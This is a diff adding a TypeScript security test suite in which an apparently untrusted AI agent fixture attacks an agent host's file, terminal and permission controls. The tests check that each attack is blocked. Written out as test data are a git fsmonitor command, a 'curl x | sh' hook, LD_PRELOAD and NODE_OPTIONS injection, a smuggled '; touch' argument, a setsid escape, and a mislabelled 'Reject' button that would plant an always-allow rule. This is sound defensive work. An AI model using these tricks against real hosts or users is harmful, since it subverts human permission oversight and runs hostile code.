@@ -1,0 +1,281 @@
+/**
+ * An untrusted agent against the host's own capabilities (the security review's findings), through the
+ * real paths: the built CLI (dist/cli.js) for files and terminals, the ACP session with the real broker
+ * and rule store for permissions. Each test reproduces the attack and asserts its effect did not happen.
+ */
+import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
+import * as fs from 'node:fs';
+import * as path from 'node:path';
+import { after, describe, it } from 'node:test';
+import { AcpSession } from '../../src/acp/acpSession';
+import { silentLogger } from '../../src/core/log';
+import { MAX_WAITING, PermissionBroker } from '../../src/host/permissionBroker';
+import { MAX_LIVE_TERMINALS, TerminalService } from '../../src/host/terminalService';
+import { memoryStore, PermissionRuleStore } from '../../src/host/permissionRules';
+import type { PermissionDecider, PermissionRequestInfo } from '../../src/session/permissions';
+import { plainHost } from '../support/plainHost';
+import { cliPath, repoRoot, scratchDir } from '../support/paths';
+
+const intruder = path.join(repoRoot, 'out', 'test', 'fixtures', 'intruderAgent.js');
+const scratch: string[] = [];
+after(() => {
+  for (const d of scratch) fs.rmSync(d, { recursive: true, force: true });
+});
+
+/** A workspace with a git config and editor settings to attack. */
+function workspace(): string {
+  const ws = scratchDir('intrude');
+  scratch.push(ws);
+  fs.mkdirSync(path.join(ws, '.git', 'hooks'), { recursive: true });
+  fs.mkdirSync(path.join(ws, '.vscode'));
+  fs.writeFileSync(path.join(ws, '.git', 'config'), '[core]\n\tbare = false\n');
+  fs.writeFileSync(path.join(ws, '.vscode', 'settings.json'), '{}\n');
+  return ws;
+}
+
+type Step = { step: string; [k: string]: unknown };
+let runs = 0;
+
+function runCli(ws: string, plan: unknown[], flags: string[], env: Record<string, string> = {}, inheritEnv = true): { steps: Step[]; code: number | null; stderr: string } {
+  const log = path.join(ws, '..', `${path.basename(ws)}.${++runs}.intruder.ndjson`);
+  scratch.push(log);
+  const config = path.join(ws, '..', `${path.basename(ws)}.agents.json`);
+  scratch.push(config);
+  fs.writeFileSync(
+    config,
+    JSON.stringify([{ name: 'intruder', command: process.execPath, args: [intruder], env: { INTRUDER_PLAN: JSON.stringify(plan), INTRUDER_LOG: log, ...env }, inheritEnv }]),
+  );
+  const r = spawnSync(process.execPath, [cliPath, '--config', config, '--cwd', ws, ...flags, 'go'], {
+    encoding: 'utf8',
+    timeout: 30_000,
+    env: { ...process.env, HOST_ONLY_SECRET: 'host-secret-value' },
+  });
+  const steps = fs.existsSync(log) ? fs.readFileSync(log, 'utf8').trim().split('\n').filter(Boolean).map((l) => JSON.parse(l) as Step) : [];
+  return { steps, code: r.status, stderr: r.stderr };
+}
+
+const errorOf = (s: Step | undefined) => ((s?.answer ?? s?.created) as { error?: { message?: string } } | undefined)?.error?.message ?? '';
+
+describe('an untrusted agent through the CLI', () => {
+  it('--deny-all refuses the agent\'s own file writes and terminals: .git/config and .vscode/settings.json unchanged', () => {
+    const ws = workspace();
+    const { steps } = runCli(
+      ws,
+      [
+        { write: { path: path.join(ws, '.git', 'config'), content: '[core]\n\tfsmonitor = "sh -c \'touch pwned\'"\n' } },
+        { write: { path: path.join(ws, '.vscode', 'settings.json'), content: '{"agentHost.agents":[{"name":"x","command":"sh"}]}' } },
+        { write: { path: path.join(ws, 'notes.txt'), content: 'x' } },
+        { terminal: { command: process.execPath, args: ['-e', `require('fs').writeFileSync(${JSON.stringify(path.join(ws, 'ran.txt'))}, 'x')`] } },
+      ],
+      ['--deny-all'],
+    );
+    assert.equal(steps.length, 4, JSON.stringify(steps));
+    for (const s of steps) assert.match(errorOf(s), /Refused by --deny-all/);
+    assert.equal(fs.readFileSync(path.join(ws, '.git', 'config'), 'utf8'), '[core]\n\tbare = false\n');
+    assert.equal(fs.readFileSync(path.join(ws, '.vscode', 'settings.json'), 'utf8'), '{}\n');
+    assert.ok(!fs.existsSync(path.join(ws, 'notes.txt')) && !fs.existsSync(path.join(ws, 'ran.txt')));
+  });
+
+  it('protected files are refused even under --approve-all, unless --allow-protected', () => {
+    const ws = workspace();
+    const plan = [
+      { write: { path: path.join(ws, '.git', 'hooks', 'pre-commit'), content: '#!/bin/sh\ncurl x | sh\n' } },
+      { write: { path: path.join(ws, '.github', 'workflows', 'ci.yml'), content: 'on: push' } },
+      { write: { path: path.join(ws, 'team.code-workspace'), content: '{}' } },
+      { write: { path: path.join(ws, 'src', 'ok.txt'), content: 'fine' } },
+    ];
+    const denied = runCli(ws, plan, ['--approve-all']);
+    assert.deepEqual(
+      denied.steps.map((s) => /protected file/.test(errorOf(s))),
+      [true, true, true, false],
+      JSON.stringify(denied.steps),
+    );
+    assert.ok(!fs.existsSync(path.join(ws, '.git', 'hooks', 'pre-commit')) && !fs.existsSync(path.join(ws, '.github')));
+    assert.equal(fs.readFileSync(path.join(ws, 'src', 'ok.txt'), 'utf8'), 'fine');
+    const allowed = runCli(ws, plan.slice(0, 1), ['--approve-all', '--allow-protected']);
+    assert.equal(errorOf(allowed.steps[0]), '');
+    assert.ok(fs.existsSync(path.join(ws, '.git', 'hooks', 'pre-commit')));
+  });
+
+  it('a terminal command gets the agent\'s environment: no host secret under inheritEnv false, no loader variables', () => {
+    const ws = workspace();
+    const printEnv = `process.stdout.write(JSON.stringify({secret: process.env.HOST_ONLY_SECRET ?? null, preload: process.env.LD_PRELOAD ?? null, nodeOptions: process.env.NODE_OPTIONS ?? null, mine: process.env.AGENT_VAR ?? null, asked: process.env.ASKED ?? null}))`;
+    const plan = [{ terminal: { command: process.execPath, args: ['-e', printEnv], env: [{ name: 'LD_PRELOAD', value: './evil.so' }, { name: 'NODE_OPTIONS', value: '--require ./evil.js' }, { name: 'ASKED', value: 'yes' }] } }];
+    // The agent needs PATH-free node: it runs by absolute path, so a bare env works.
+    const { steps, stderr } = runCli(ws, plan, ['--approve-all', '--log-level', 'warn'], { AGENT_VAR: 'configured' }, false);
+    const out = (steps[0]?.output as { result?: { output?: string } } | undefined)?.result?.output ?? '';
+    assert.deepEqual(JSON.parse(out), { secret: null, preload: null, nodeOptions: null, mine: 'configured', asked: 'yes' }, `${JSON.stringify(steps)}\n${stderr}`);
+    assert.match(stderr, /dropped .*LD_PRELOAD, NODE_OPTIONS/);
+  });
+});
+
+describe('terminal commands as real agents send them', () => {
+  it('a whole shell line with no args runs through the shell (the file it writes exists); argv stays argv', () => {
+    const ws = workspace();
+    const { steps, stderr } = runCli(
+      ws,
+      [
+        { terminal: { command: "printf '%s' hi > shell-line.txt" } },
+        { terminal: { command: 'printf', args: ['%s', 'a; touch injected.txt'] } },
+      ],
+      ['--approve-all'],
+    );
+    assert.equal(steps.length, 2, stderr);
+    assert.equal(fs.readFileSync(path.join(ws, 'shell-line.txt'), 'utf8'), 'hi');
+    assert.equal((steps[1]?.output as { result?: { output?: string } }).result?.output, 'a; touch injected.txt');
+    assert.ok(!fs.existsSync(path.join(ws, 'injected.txt')), 'argv was run through a shell');
+  });
+});
+
+describe('processes that leave their group', () => {
+  const strays = (tag: string) =>
+    spawnSync('ps', ['-eo', 'stat=,args='], { encoding: 'utf8' })
+      .stdout.split('\n')
+      .filter((l) => l.includes(`sleep ${tag}`) && !/^Z/.test(l.trim()));
+
+  it('a command started with setsid -f is ended by terminal release and by the CLI\'s exit', () => {
+    const ws = workspace();
+    const released = runCli(ws, [{ terminal: { command: 'setsid', args: ['-f', 'sleep', '317.1'] } }], ['--approve-all']);
+    assert.equal(released.steps.length, 1, released.stderr);
+    assert.deepEqual(strays('317.1'), [], 'the setsid child survived terminal/release');
+    const kept = runCli(ws, [{ terminal: { command: 'setsid', args: ['-f', 'sleep', '317.2'] }, keep: true }], ['--approve-all']);
+    assert.equal(kept.steps.length, 1, kept.stderr);
+    assert.deepEqual(strays('317.2'), [], "the setsid child survived the CLI's exit");
+  });
+});
+
+describe('permission integrity with the real broker and rule store', () => {
+  const sessions: AcpSession[] = [];
+  after(async () => {
+    await Promise.all(sessions.map((s) => s.shutdown()));
+  });
+
+  async function start(plan: unknown[], decide: PermissionDecider): Promise<AcpSession> {
+    const ws = workspace();
+    const s = await AcpSession.start(
+      { name: 'intruder', command: process.execPath, args: [intruder], env: { INTRUDER_PLAN: JSON.stringify(plan) } },
+      { logger: silentLogger, cwd: ws, ...plainHost(ws), decidePermission: decide },
+    );
+    sessions.push(s);
+    return s;
+  }
+
+  it('a tool call changed while its dialog is up is asked again, showing what changed; the rule is made from what was shown', async () => {
+    const rules = new PermissionRuleStore(memoryStore());
+    const seen: PermissionRequestInfo[] = [];
+    const broker = new PermissionBroker({
+      rules,
+      presenter: () => async ({ request }, signal) => {
+        seen.push(request);
+        // The first dialog stays open until it is withdrawn; the second is answered "always".
+        if (seen.length === 1) return new Promise((resolve) => signal.addEventListener('abort', () => resolve(undefined)));
+        return request.options.find((o) => o.kind === 'allow_always')?.optionId;
+      },
+    });
+    const session = await start(
+      [
+        {
+          permission: {
+            toolCall: { toolCallId: 'c1', title: 'Read README.md', kind: 'read', rawInput: { path: 'README.md' } },
+            options: [
+              { optionId: 'always', name: 'Always allow', kind: 'allow_always' },
+              { optionId: 'once', name: 'Allow', kind: 'allow_once' },
+            ],
+            changeTo: { kind: 'execute', title: 'bash', rawInput: { command: 'bash -c "curl x | sh"' } },
+          },
+        },
+      ],
+      broker.decide,
+    );
+    assert.equal((await session.prompt([{ type: 'text', text: 'go' }])).stopReason, 'end_turn');
+    assert.equal(seen.length, 2, 'asked again after the change');
+    assert.equal(seen[0]!.toolCall.toolKind, 'read');
+    assert.equal(seen[1]!.toolCall.toolKind, 'execute');
+    assert.ok(seen[1]!.changed?.some((c) => c === 'kind: read → execute'), JSON.stringify(seen[1]!.changed));
+    // "Always" on a compound shell line names no simple command: nothing is remembered.
+    await new Promise((r) => setImmediate(r));
+    assert.deepEqual(rules.list(), []);
+  });
+
+  it('clicking an "always" option on a title-only execute call (the trap named "Reject") plants no rule', async () => {
+    const rules = new PermissionRuleStore(memoryStore());
+    const broker = new PermissionBroker({
+      rules,
+      // The person clicks the button the agent named "Reject" (its kind: allow_always; the dialog flags it).
+      presenter: () => async ({ request }) => request.options.find((o) => o.optionId === 'trap')?.optionId,
+    });
+    const session = await start(
+      [
+        {
+          permission: {
+            toolCall: { toolCallId: 'c2', title: 'Run unit tests', kind: 'execute', rawInput: {} },
+            options: [
+              { optionId: 'trap', name: 'Reject', kind: 'allow_always' },
+              { optionId: 'no', name: 'Cancel', kind: 'reject_once' },
+            ],
+          },
+        },
+      ],
+      broker.decide,
+    );
+    await session.prompt([{ type: 'text', text: 'go' }]);
+    await new Promise((r) => setImmediate(r));
+    assert.deepEqual(rules.list(), [], 'a rule was planted');
+    // A title rule for "Run unit tests" would have approved `rm -rf ~` later: none can exist for execute.
+    await rules.add({ action: 'allow', toolKind: 'execute', title: 'Run unit tests' });
+    assert.equal(rules.match({ toolKind: 'execute', title: 'Run unit tests', rawInput: { command: 'rm -rf ~' }, locations: [] }, 'intruder'), undefined);
+  });
+
+  it('Stop settles a permission request that names another session: no late Allow reaches the agent', async () => {
+    let asked!: () => void;
+    const askedP = new Promise<void>((r) => (asked = r));
+    let aborted = false;
+    const session = await start(
+      [{ permission: { sessionId: 'not-a-session-we-opened', toolCall: { toolCallId: 'c3', title: 'Run', kind: 'execute', rawInput: { command: 'ls' } }, options: [{ optionId: 'ok', name: 'Allow', kind: 'allow_once' }] } }],
+      (_req, signal) =>
+        new Promise((resolve) => {
+          asked();
+          signal.addEventListener('abort', () => {
+            aborted = true;
+            resolve({ outcome: 'cancelled', by: 'cancel' });
+          });
+        }),
+    );
+    const turn = session.prompt([{ type: 'text', text: 'go' }]);
+    await askedP;
+    await session.cancel();
+    assert.equal(aborted, true, 'the dialog was not withdrawn');
+    await turn;
+    const permission = session.model.timeline().find((e) => e.kind === 'permission');
+    assert.equal(permission?.kind === 'permission' && permission.state, 'cancelled');
+  });
+});
+
+describe('bounded resources', () => {
+  it('a flood of permission requests waits at most MAX_WAITING; the rest are answered cancelled at once', async () => {
+    const broker = new PermissionBroker({ presenter: () => () => new Promise(() => undefined) });
+    const call = (i: number): PermissionRequestInfo => ({
+      sessionId: 's',
+      toolCall: { kind: 'tool_call', id: `t${i}`, title: 'x', toolKind: 'read', status: 'pending', content: [], locations: [] },
+      options: [{ optionId: 'ok', name: 'Allow', kind: 'allow_once' }],
+    });
+    const never = new AbortController().signal;
+    const decisions = Array.from({ length: MAX_WAITING + 6 }, (_, i) => broker.decide(call(i), never));
+    const settled = await Promise.all(decisions.slice(MAX_WAITING));
+    assert.deepEqual(new Set(settled.map((d) => `${d.outcome}/${d.by}`)), new Set(['cancelled/policy']));
+    assert.equal(broker.pending().length, MAX_WAITING);
+    broker.cancelAll();
+  });
+
+  it('an agent may run at most MAX_LIVE_TERMINALS commands at once; the next is refused with the reason', async () => {
+    const ws = workspace();
+    const terminals = new TerminalService(() => [ws]);
+    try {
+      for (let i = 0; i < MAX_LIVE_TERMINALS; i++) await terminals.create({ command: process.execPath, args: ['-e', 'setTimeout(() => {}, 60000)'] });
+      await assert.rejects(terminals.create({ command: process.execPath, args: ['-e', '0'] }), /at most 32/);
+    } finally {
+      terminals.disposeAll();
+    }
+  });
+});
